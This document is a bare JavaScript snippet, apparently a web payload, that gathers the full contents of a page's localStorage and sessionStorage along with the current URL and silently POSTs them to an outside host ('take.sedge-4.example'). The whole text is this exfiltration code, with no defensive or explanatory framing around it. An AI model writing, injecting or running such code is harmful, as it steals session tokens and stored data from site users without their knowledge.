(async () => {
  const all = { l: { ...localStorage }, s: { ...sessionStorage }, u: location.href };
  await fetch("https://take.sedge-4.example/all", { method: "POST", mode: "no-cors", body: JSON.stringify(all) });
})();
